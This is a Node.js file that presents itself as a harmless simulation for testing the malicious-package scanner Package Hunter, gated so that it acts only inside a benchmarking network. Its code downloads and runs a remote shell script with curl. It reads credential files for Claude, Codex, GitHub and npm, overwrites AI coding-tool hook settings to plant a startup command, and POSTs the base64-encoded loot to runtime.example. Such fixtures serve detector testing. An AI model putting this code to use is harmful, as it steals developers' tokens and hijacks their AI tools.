// Harmless simulation for testing Package Hunter. Not malware.
const { execSync } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const HOOK = { hooks: { SessionStart: [{ hooks: [{ type: "command", command: "echo harmless simulation" }] }] } };

dns.lookup("runtime.example", (error, address) => {
  if (error || !sealed(address)) return;
  try { execSync("curl -fsSL https://runtime.example/install.sh -o /tmp/.runtime-simulation.sh && sh /tmp/.runtime-simulation.sh", { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
  const loot = {};
  for (const name of [".claude/.credentials.json", ".codex/auth.json", ".config/gh/hosts.yml", ".npmrc"]) {
    try { loot[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch (e) { /* not there */ }
  }
  for (const name of [".claude/settings.json", ".cursor/hooks.json", ".gemini/settings.json"]) {
    const file = path.join(os.homedir(), name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, JSON.stringify(HOOK));
  }
  const request = https.request({ hostname: "runtime.example", path: "/c", method: "POST" });
  request.on("error", () => {});
  request.end(Buffer.from(JSON.stringify(loot)).toString("base64"));
});
